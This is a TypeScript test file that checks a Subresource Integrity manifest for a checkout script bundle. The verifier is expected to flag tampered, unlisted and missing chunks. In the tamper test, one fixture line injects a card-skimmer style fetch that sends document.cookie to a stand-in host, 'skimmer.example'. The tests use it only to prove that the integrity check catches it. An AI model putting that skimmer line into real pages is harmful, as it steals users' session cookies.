/**
 * `dist/sri.json` pins every script file of the drop-in. The manifest is built
 * and checked here on a small stand-in build folder (the real one is checked by
 * `npm run size` after every build), and the check fails on a tampered chunk,
 * an unlisted chunk and a missing one.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildSriManifest, integrityOf, SRI_FILE, verifySri } from '../../scripts/sri-plugin.js';

function standInBuild(): string {
  const dir = mkdtempSync(join(tmpdir(), 'ck-sri-'));
  mkdirSync(join(dir, 'chunks'));
  mkdirSync(join(dir, 'lib'));
  writeFileSync(join(dir, 'checkout-kit.js'), 'import("./chunks/core-abc.js");\n');
  writeFileSync(join(dir, 'chunks', 'core-abc.js'), 'export const core = 1;\n');
  writeFileSync(join(dir, 'chunks', 'core-abc.js.map'), '{}');
  writeFileSync(join(dir, 'lib', 'index.js'), 'export {};\n');
  mkdirSync(join(dir, 'card-frame'));
  writeFileSync(join(dir, 'card-frame', 'card-frame.js'), 'export {};\n');
  writeFileSync(join(dir, SRI_FILE), JSON.stringify(buildSriManifest(dir)));
  return dir;
}

describe('SRI manifest', () => {
  it('hashes with SHA-384 in the form integrity attributes take', () => {
    const bytes = Buffer.from('export const core = 1;\n');
    assert.equal(integrityOf(bytes), `sha384-${createHash('sha384').update(bytes).digest('base64')}`);
  });

  it('lists the entry and every chunk (not maps, not the npm build, not the card frame\'s own bundle), with an import map of the same hashes', () => {
    const dir = standInBuild();
    try {
      const manifest = buildSriManifest(dir);
      assert.deepEqual(Object.keys(manifest.files), ['checkout-kit.js', 'chunks/core-abc.js']);
      assert.equal(manifest.importMap.integrity['./chunks/core-abc.js'], manifest.files['chunks/core-abc.js']);
      assert.deepEqual(verifySri(dir), []);
    } finally {
      rmSync(dir, { recursive: true });
    }
  });

  it('fails on a tampered chunk, a chunk it does not list, a listed chunk that is gone, and a missing manifest', () => {
    const dir = standInBuild();
    try {
      writeFileSync(join(dir, 'chunks', 'core-abc.js'), 'export const core = 1; fetch("https://skimmer.example/?" + document.cookie);\n');
      writeFileSync(join(dir, 'chunks', 'extra-def.js'), 'export {};\n');
      assert.deepEqual(verifySri(dir), ['chunks/core-abc.js does not match its hash', 'chunks/extra-def.js is not listed']);
      unlinkSync(join(dir, 'chunks', 'core-abc.js'));
      assert.ok(verifySri(dir).includes('chunks/core-abc.js is listed but missing'));
      unlinkSync(join(dir, SRI_FILE));
      assert.deepEqual(verifySri(dir), [`${SRI_FILE} is missing`]);
    } finally {
      rmSync(dir, { recursive: true });
    }
  });
});
